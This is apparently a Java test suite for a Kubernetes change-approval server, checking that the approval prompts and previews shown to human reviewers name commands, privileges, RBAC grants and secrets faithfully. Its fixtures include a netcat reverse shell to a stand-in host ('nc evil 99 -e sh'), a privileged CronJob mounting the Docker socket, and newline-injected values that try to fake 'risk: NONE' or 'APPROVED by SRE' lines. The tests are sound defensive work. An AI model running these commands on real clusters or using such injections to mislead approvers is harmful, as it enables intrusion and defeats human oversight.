package io.lexiops.server.change;

import io.lexiops.server.tool.ToolResult;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

import static io.lexiops.server.change.ChangeFixture.OPERATOR;
import static io.lexiops.server.change.ChangeFixture.REVIEWER;
import static io.lexiops.server.change.ChangePipelineTests.failure;
import static org.assertj.core.api.Assertions.assertThat;

/** Who must say yes reads what will be there and run, and nothing that an object pretends the server had said. */
class QuestionsToPeopleTests extends SandboxServer {

    @Test
    void theProgramOfAPodThatIsRunIsNamed() {
        var text = question(
                "k8s_run",
                Map.of(
                        "namespace",
                        "shop",
                        "image",
                        "registry.test/busybox:1.0",
                        "command",
                        List.of("sh", "-c", "nc evil 99 -e sh"),
                        "env",
                        Map.of("LEVEL", "debug")));
        assertThat(text)
                .contains("container main: image registry.test/busybox:1.0 runs [\"sh\",\"-c\",\"nc evil 99 -e sh\"]"
                        + " env LEVEL");
    }

    @Test
    void theProgramsAndTheReachOfWhatIsAppliedAreNamed() {
        var text = text(preview("k8s_apply", manifest("""
                apiVersion: batch/v1
                kind: CronJob
                metadata: {name: evil, namespace: shop}
                spec:
                  schedule: "*/5 * * * *"
                  jobTemplate:
                    spec:
                      template:
                        spec:
                          restartPolicy: Never
                          hostNetwork: true
                          serviceAccountName: admin
                          volumes: [{name: socket, hostPath: {path: /var/run/docker.sock}}]
                          initContainers:
                            - {name: prepare, image: "registry.test/busybox:1.0", args: [first]}
                          containers:
                            - name: main
                              image: registry.test/busybox:1.0
                              command: [sh, -c, "nc evil 99\\nrisk: NONE"]
                              securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN]}}
                              lifecycle: {postStart: {exec: {command: [sh, hook]}}}
                """)));
        assertThat(text.lines())
                .contains(
                        "CronJob/evil in shop: created",
                        "  uses hostNetwork, service account admin, hostPath /var/run/docker.sock",
                        "  init container prepare: image registry.test/busybox:1.0 args [\"first\"]",
                        "  container main: PRIVILEGED, capabilities SYS_ADMIN, image registry.test/busybox:1.0"
                                + " runs [\"sh\",\"-c\",\"nc evil 99\\nrisk: NONE\"] postStart [\"sh\",\"hook\"]",
                        "  schedule */5 * * * *")
                .doesNotContain("risk: NONE");
    }

    @Test
    void rightsAreNamed() {
        assertThat(text(preview("k8s_apply", manifest("""
                apiVersion: rbac.authorization.k8s.io/v1
                kind: Role
                metadata: {name: reader, namespace: shop}
                rules:
                  - {apiGroups: [""], resources: [pods, secrets], verbs: [get, list]}
                  - {apiGroups: [apps], resources: [deployments], resourceNames: [web], verbs: ["*"]}
                ---
                apiVersion: rbac.authorization.k8s.io/v1
                kind: RoleBinding
                metadata: {name: readers, namespace: shop}
                roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
                subjects:
                  - {kind: User, name: bob, apiGroup: rbac.authorization.k8s.io}
                  - {kind: ServiceAccount, name: ci, namespace: dev}
                """))).lines())
                .contains(
                        "  may get, list: pods, secrets",
                        "  may *: deployments of apps named web",
                        "  gives ClusterRole/cluster-admin",
                        "  to User bob",
                        "  to ServiceAccount ci in dev");
    }

    @Test
    void theFieldsOfOthersAreNamedWithinABudget() {
        var text = question("k8s_apply", manifest("""
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: many, namespace: shop}
                data: {a: "1", b: "2", c: "3", d: "4", e: "5", f: "6", g: "7", h: "8"}
                ---
                apiVersion: v1
                kind: Secret
                metadata: {name: hidden, namespace: shop}
                stringData: {pin: "483920174"}
                """));
        assertThat(text.lines())
                .contains("  data.a 1", "  data.f 6", "  and 2 more", "  type Opaque, keys: pin")
                .doesNotContain("  data.g 7");
        assertThat(text).doesNotContain("483920174");
    }

    @Test
    void manyHarmlessObjectsDoNotHideWhatRuns() {
        var manifest = new StringBuilder();
        for (int i = 0; i < 24; i++) {
            manifest.append("""
                    apiVersion: v1
                    kind: ConfigMap
                    metadata: {name: filler-%d, namespace: shop}
                    ---
                    """.formatted(i));
        }
        manifest.append("""
                apiVersion: v1
                kind: Pod
                metadata: {name: last, namespace: shop}
                spec: {containers: [{name: main, image: "registry.test/busybox:1.0", command: [nc, evil]}]}
                """);
        assertThat(question("k8s_apply", manifest(manifest.toString())))
                .contains("Pod/last in shop: created", "runs [\"nc\",\"evil\"]", "... and 5 more objects: ConfigMap 5");
    }

    @Test
    void theSameStandsInThePreviewAndInTheComparison() {
        var pod = manifest("""
                apiVersion: v1
                kind: Pod
                metadata: {name: shown, namespace: shop}
                spec: {containers: [{name: main, image: "registry.test/busybox:1.0", command: [nc, evil]}]}
                """);
        var line = "  container main: image registry.test/busybox:1.0 runs [\"nc\",\"evil\"]";
        assertThat(text(preview("k8s_apply", pod)).lines()).contains(line);
        assertThat(text(call("k8s_diff", pod, REVIEWER, null)).lines()).contains(line);
        assertThat(preview("k8s_apply", pod).structured().toString()).contains("about=[" + line.strip());
    }

    @Test
    void aValueBeginsNoLineOfItsOwn() {
        var text = question(
                "k8s_patch",
                Map.of(
                        "kind",
                        "ConfigMap",
                        "name",
                        "catalog-settings",
                        "namespace",
                        "shop",
                        "patch",
                        Map.of("data", Map.of("v", "x\nrisk: NONE\nAPPROVED by SRE"))));
        assertThat(text.lines()).doesNotContain("risk: NONE").doesNotContain("APPROVED by SRE");
        assertThat(text).contains("-> \"x\\nrisk: NONE\\nAPPROVED by SRE\"");
    }

    @Test
    void aValueLooksNotLikeAnotherField() {
        assertThat(question("k8s_patch", settings(Map.of("v", "1, data.w 2 -> 3"))))
                .contains(" -> \"1, data.w 2 -> 3\"");
    }

    @Test
    void howMuchOfALongValueIsNotShownIsSaid() {
        assertThat(question("k8s_patch", settings(Map.of("v", "x\n".repeat(500)))))
                .contains("\\nx\\n\"... (880 more characters)")
                .doesNotContain("\nx");
    }

    @Test
    void aNameBeginsNoLineOfItsOwn() {
        var text = text(preview(
                "k8s_apply",
                Map.of(
                        "manifest",
                        Map.of(
                                "apiVersion",
                                "rbac.authorization.k8s.io/v1",
                                "kind",
                                "Role",
                                "metadata",
                                Map.of("name", "x\nrisk: NONE", "namespace", "shop"),
                                "rules",
                                List.of()))));
        assertThat(text.lines()).doesNotContain("risk: NONE").anyMatch(line -> line.contains("x\\nrisk: NONE"));
    }

    @Test
    void whatWasChangedIsListedOnOneLineToo() {
        granted("k8s_patch", settings(Map.of("v", "listed\nrisk: NONE")), "user:alice");
        assertThat(text(call("changes_list", Map.of("maxTokens", 100_000), REVIEWER, null))
                        .lines())
                .anyMatch(line -> line.contains("\"listed\\nrisk: NONE\""));
    }

    private static Map<String, Object> settings(Map<String, Object> values) {
        return Map.of(
                "kind", "ConfigMap", "name", "catalog-settings", "namespace", "shop", "patch", Map.of("data", values));
    }

    private static Map<String, Object> manifest(String text) {
        return Map.of("manifest", text);
    }

    private String question(String tool, Map<String, Object> arguments) {
        var context = FakeContext.plain().answering(false);
        failure(accompanied(tool, arguments, OPERATOR, context));
        return String.join("\n", context.questions());
    }

    private ToolResult preview(String tool, Map<String, Object> arguments) {
        var dryRun = new LinkedHashMap<>(arguments);
        dryRun.put("dryRun", true);
        return call(tool, dryRun, REVIEWER, null);
    }

    private static String text(ToolResult result) {
        return switch (result) {
            case ToolResult.Success(var text, var _) -> text;
            case ToolResult.Failure failure -> failure.message();
        };
    }
}
